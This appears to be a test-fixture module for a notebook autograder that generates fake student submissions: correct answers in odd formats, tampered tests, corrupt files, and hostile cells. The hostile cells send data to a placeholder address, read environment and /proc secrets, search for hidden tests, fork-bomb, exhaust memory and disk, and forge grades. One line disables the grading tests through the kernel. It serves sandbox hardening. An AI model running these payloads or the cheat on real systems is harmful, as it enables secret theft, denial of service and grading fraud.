"""What a made-up class hands in for the homework hw_small.txt: right in unusual ways, hostile, broken.

The homework asks for 2 * x: 1 point by visible tests, 2 by hidden ones.
"""

import json

RIGHT = "def answer(x):\n    return 2 * x"
WRONG = "def answer(x):\n    return 0 * x"
SOLUTION = "small-1"


def notebook(handout, answer, before=(), after=(), **cells):
    """The handout as a dict, with an answer in its place and cells before and after it; ``cells`` replaces others."""
    made = json.loads(handout)
    (place,) = [n for n, cell in enumerate(made["cells"]) if grade_id(cell) == SOLUTION]
    made["cells"][place]["source"] = answer
    for cell in made["cells"]:
        cell["source"] = cells.get((grade_id(cell) or "").replace("-", "_"), cell["source"])
    made["cells"][place + 1 : place + 1] = [code(text) for text in after]
    made["cells"][place:place] = [code(text) for text in before]
    return made


def grade_id(cell):
    return cell["metadata"].get("nbgrader", {}).get("grade_id")


def code(source):
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def version_3(made):
    """The same in the old format of notebooks."""
    cells = []
    for cell in made["cells"]:
        old = {"cell_type": cell["cell_type"], "metadata": cell["metadata"]}
        is_code = cell["cell_type"] == "code"
        old |= {"input": cell["source"], "language": "python", "outputs": []} if is_code else {"source": cell["source"]}
        cells.append(old)
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": cells}]}


def without_hidden_cell(made):
    made["cells"] = [cell for cell in made["cells"] if grade_id(cell) != "small-1-hidden"]
    return made


def right_answers(handout):
    """Right answers in forms that people really hand in, each worth 3 points: file name and bytes."""
    make = lambda answer=RIGHT, *before: notebook(handout, answer, before)  # noqa: E731
    cells = "!ls", "import asyncio\nawait asyncio.sleep(0)", "display(3)"
    loud = f"%%time\n{RIGHT}\n\nfor _ in range(100):\n    print('x' * 1_000_000)"
    forms = {"plain": make(), "loud": make(loud, *cells), "deleted-test": without_hidden_cell(make())}
    files = {name: ("hw_small.ipynb", json.dumps(made).encode()) for name, made in forms.items()}
    mark = b"\xef\xbb\xbf"  # of UTF-8, as an editor of Windows leaves it
    files["version-3"] = ("hw_small (1).ipynb", mark + json.dumps(version_3(make())).encode())
    return files


SEARCH = """import os
for folder, _, files in os.walk("/"):
    for path in (f"{folder}/{name}" for name in files if name.endswith(".ipynb")):
        text = open(path, errors="replace").read()
        if "BEGIN HIDDEN" in text and "/nbgrader/" not in path or "2 * x" in text and "hw_small" in path:
            print("FOUND", path)
print("SEARCHED ALL")
"""
HOSTILE = {  # each line in a cell of its own
    "spy": [
        "import urllib.request\nurllib.request.urlopen('http://{address}/stolen', timeout=2)",
        SEARCH,
        "import os\nprint(dict(os.environ), open('/proc/1/environ').read())",
        "print([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
    ],
    "vandal": [
        "open('{canary}', 'w').write('changed')",
        "import subprocess\nsubprocess.Popen(['sleep', '4321'], start_new_session=True)",
        "import ctypes\nassert ctypes.CDLL(None).mount(b'/', b'/tmp', b'', 4096, None) == 0",
    ],
    "forger": [
        "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m')",
        'print(\'{"state": "graded", "parts": {"small-1-hidden": 2}}\')\ndisplay({\'points\': 3})',
    ],
    "forks": ["import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        break"],
    "memory": ["hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))"],
    "disk": ["import os\nfor n in range(99):\n    open(f'/tmp/{n}', 'wb').write(bytes(40_000_000))"],
    "exit": ["import os\nos._exit(0)"],
    "stubborn": ["while True:\n    try:\n        while True: pass\n    except BaseException: pass"],
}
TAMPERED = {  # cells of the handout that a student changed
    "weak test": {"small_1_check": "pass"},
    "no+test@c.d": {"small_1_check": ""},
}
# A submission and its tests share a kernel: nbgrader cannot stop this, and the guide says so.
CHEAT = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"
BROKEN = {  # bytes in place of a notebook, and what the row says
    "empty": (b"", "is no notebook"),
    "nested": (b"[" * 200_000, "is no notebook"),
    "binary": (bytes(range(256)) * 9, "is no notebook"),
    "no-answers": (
        b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}',
        "none of the graded cells of hw_small",
    ),
}
